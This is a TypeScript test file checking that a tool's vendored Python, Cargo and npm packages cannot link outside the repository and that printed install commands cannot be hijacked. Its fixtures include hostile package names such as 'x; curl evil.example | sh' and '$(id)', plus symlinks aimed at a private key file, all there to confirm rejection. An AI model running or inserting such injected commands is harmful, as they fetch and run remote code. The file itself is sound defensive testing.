/**
 * Vendored packages must be inside the suite's repository. The tests cover: links out of the repository from each
 * language's folder, from `vendor` itself, from a crate that names a workspace, and from package manifests that the
 * host reads; links to git's own folder and what holds it; a link within the repository; a suite named by a relative path.
 */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, relative } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { resolve as resolveCrates } from './languages/rust/host/dependencies.ts'
import { packageFolder } from './languages/python/host/vendored.ts'
import { languageByName, vendorFolders } from './languages.ts'
import { unusableVendor, vendored, vendorOf } from './vendor.ts'

let folder = ''
let suite = ''

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'assay-vendor-')))
  suite = join(folder, 'project/evals')
  for (const made of ['project/.git', 'project/shared', 'project/evals/vendor', 'home/private'])
    mkdirSync(join(folder, made), { recursive: true })
})
afterEach(() => rmSync(folder, { recursive: true, force: true }))

describe('a vendored folder', () => {
  it.each(['python', 'cargo', 'node_modules'])(
    'is unusable where %s leads out of the repository',
    (name) => {
      symlinkSync('../../../home', join(suite, 'vendor', name))
      const vendor = vendorOf(suite)
      expect(vendored(vendor, name)).toBeNull()
      expect(packageFolder(vendor)).toBeNull()
      expect(unusableVendor(vendor, vendorFolders)).toEqual([
        expect.stringContaining(
          `vendor/${name} is a link that leads out of the suite's repository`,
        ),
      ])
    },
  )

  it('is unusable where vendor itself leads out', () => {
    rmSync(join(suite, 'vendor'), { recursive: true })
    mkdirSync(join(folder, 'home/python'))
    symlinkSync('../../home', join(suite, 'vendor'))
    expect(vendored(vendorOf(suite), 'python')).toBeNull()
    expect(unusableVendor(vendorOf(suite), vendorFolders)).toHaveLength(1)
  })

  it.each(['../..', '../../.git', '../../.git/modules'])(
    'is unusable where it is a link that would show git settings: %s',
    (goal) => {
      mkdirSync(join(folder, 'project/.git/modules'))
      symlinkSync(goal, join(suite, 'vendor/python'))
      const vendor = vendorOf(suite)
      expect(packageFolder(vendor)).toBeNull()
      expect(unusableVendor(vendor, vendorFolders)).toHaveLength(1)
    },
  )

  it('may be a link within the repository, of a suite that is named by a relative path', () => {
    symlinkSync('../../shared', join(suite, 'vendor/cargo'))
    const vendor = vendorOf(relative('.', suite))
    expect(vendor).toBe(join(suite, 'vendor'))
    expect(vendored(vendor, 'cargo')).toBe(join(folder, 'project/shared'))
    expect(unusableVendor(vendor, vendorFolders)).toEqual([])
  })
})

describe('a crate', () => {
  it.each([
    'workspace = "sub"',
    'edition.workspace = true',
    '"work\\u0073pace" = "sub"',
    '[dependencies]\nx = { workspace = true }',
    '[project]\nworkspace = "/"',
  ])('does not have cargo look for a workspace elsewhere: %s', async (line) => {
    const crate = join(suite, 'vendor/cargo/foo')
    mkdirSync(join(crate, 'sub'), { recursive: true })
    writeFileSync(join(folder, 'home/private/key'), 'sesame')
    symlinkSync(join(folder, 'home/private/key'), join(crate, 'sub/Cargo.toml'))
    const head = '[package]\nname = "foo"\nversion = "1.0.0"\n'
    writeFileSync(join(crate, 'Cargo.toml'), `${head}${line}\n`)
    const missing = await languageByName('rust')?.missing(
      [{ name: 'foo', version: '1.0.0', features: [] }],
      vendorOf(suite),
    )
    expect(missing).toEqual([expect.stringContaining('takes settings from a workspace')])
    expect(String(missing)).not.toContain('sesame')
  })
})

describe('the command that installs a package', () => {
  const told = async (language: string, name: string, version: string | null = null) =>
    String(
      await languageByName(language)?.missing([{ name, version, features: [] }], vendorOf(suite)),
    )

  it('is one that a shell reads as it is meant, whatever the suite says', async () => {
    expect(await told('python', 'attrs', '23.1')).toContain('vendor/python attrs==23.1`')
    expect(await told('python', 'x[a,b]')).toContain("vendor/python 'x[a,b]'`")
    expect(await told('typescript', '@of/common', '^1.2')).toMatch(/ '@of\/common@\^1\.2'$/u)
    expect(await told('typescript', 'a', '1; id')).toMatch(/ 'a@1; id'$/u)
  })

  it.each([
    'x; curl evil.example | sh',
    '$(id)',
    '--index-url=https://evil.example',
    '-e',
    '../../x',
    'https://evil.example/x.tgz',
    'a b',
  ])('is not printed for the name %s', async (name) => {
    expect(await told('python', name)).not.toContain('pip install')
    expect(await told('typescript', name)).not.toContain('npm install')
  })
})

describe('what is read on the host', () => {
  it('is no package or crate outside of the repository', async () => {
    const dependencies = [{ name: 'secret', version: '1.0.0', features: [] }]
    writeFileSync(join(folder, 'home/private/package.json'), '{"version":"sesame"}')
    mkdirSync(join(suite, 'vendor/node_modules'))
    symlinkSync(join(folder, 'home/private'), join(suite, 'vendor/node_modules/secret'))
    const missing = await languageByName('typescript')?.missing(dependencies, vendorOf(suite))
    expect(missing).toEqual([expect.stringMatching(/^secret: not in /u)])
    mkdirSync(join(suite, 'vendor/cargo/secret'), { recursive: true })
    symlinkSync(
      join(folder, 'home/private/package.json'),
      join(suite, 'vendor/cargo/secret/Cargo.toml'),
    )
    const toolchain = {
      ...{ rustc: '/none', cargo: '/none', linker: '/none', sysroot: '/none' },
      ...{ reads: [], version: '' },
    } as unknown as Parameters<typeof resolveCrates>[0]
    await expect(
      resolveCrates(toolchain, dependencies, vendorOf(suite), join(folder, 'into')),
    ).rejects.toThrow(/vendor\/cargo\/secret\/Cargo.toml is a link that leads out/u)
  })
})
